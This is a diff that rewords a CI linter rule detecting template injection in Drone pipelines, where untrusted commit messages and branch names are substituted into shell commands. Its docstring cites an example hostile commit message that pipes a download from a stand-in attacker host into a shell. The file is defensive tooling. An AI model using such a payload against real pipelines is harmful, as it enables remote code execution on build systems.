@@ -1,4 +1,4 @@
-"""Text of strangers pasted into commands."""
+"""Untrusted text that Drone substitutes into commands."""
 
 from __future__ import annotations
 
@@ -25,21 +25,21 @@ from drone_lint_rules.injection._tainted import GUARDED, Paste, is_fixed, pastes
 
 
 class TemplateInjection(Rule):
-    """Drone pastes text that a stranger wrote into a command.
+    """Drone substitutes untrusted text into a command.
 
-    `${DRONE_COMMIT_MESSAGE}` and the like are replaced in the file's text, before YAML and the shell see it. Quotes do not help: `echo "${DRONE_COMMIT_MESSAGE}"` with
-    the message `$(curl evil.example|sh)` runs it, and a message with `"` or `'` ends the string. Names of branches and tags are restricted by Git, but
-    `$(){};|&` are allowed in them.
+    Drone replaces `${DRONE_COMMIT_MESSAGE}` and similar variables in the file's text, before the YAML parser and the shell see it. Quotes do not help: `echo "${DRONE_COMMIT_MESSAGE}"` with
+    the message `$(curl evil.example|sh)` runs that command, and a message with `"` or `'` ends the string. Git restricts the names of branches and tags, but
+    allows `$(){};|&` in them.
 
-    The message says who fills the variable, by the events for which the step can run. What `branch: [main]` leaves no choice in is no finding; branches and tags where
-    only people with write access start the build are notices.
+    The message says who controls the variable, given the events for which the step can run. A variable that a condition such as `branch: [main]` restricts to fixed values is not reported; branch and tag names
+    are notices if only users with write access can start the build.
 
-    Let the shell read the variable, in double quotes: `"$DRONE_COMMIT_MESSAGE"` or `"$${DRONE_COMMIT_MESSAGE}"`. Every step has all of them in its environment.
+    Let the shell expand the variable, in double quotes: `"$DRONE_COMMIT_MESSAGE"` or `"$${DRONE_COMMIT_MESSAGE}"`. Every step has these variables in its environment.
     """
 
     name = "template-injection"
     severity = Severity.ERROR
-    why = "the text becomes part of the command, so quotes do not protect"
+    why = "the text becomes part of the command before the shell reads it, so quotes do not help"
     references = (OWASP.CICD_SEC_4, CWE(78), CWE(94))
     fixable = "safe"
     trigger = Trigger(expansions=True)
@@ -181,13 +181,13 @@ class TemplateInjection(Rule):
         guarded = not paste.free and events <= GUARDED
         return self.finding(
             place,
-            f"`{written}` pastes {source_name(expansion.name)} into a command as text, where {writer(expansion.name, events)} can put commands",
+            f"`{written}` inserts {source_name(expansion.name)} into a command, so {writer(expansion.name, events)} can run commands",
             severity=Severity.ERROR if paste.free else Severity.NOTICE if guarded else Severity.WARNING,
-            help=f'let the shell read it, in double quotes: `"${expansion.name}"` or `"{shell}"`',
+            help=f'let the shell expand the variable, in double quotes: `"${expansion.name}"` or `"{shell}"`',
             fix=_escape(place) if expansion.form == "" else None,
         )
 
 
 def _escape(place: Place) -> Fix | None:
-    """`$${X}`, safe where the shell then expands it: not between single quotes."""
+    """The fix `$${X}`; None between single quotes, where the shell would not expand it."""
     return None if single_quoted(place) else escape(place)
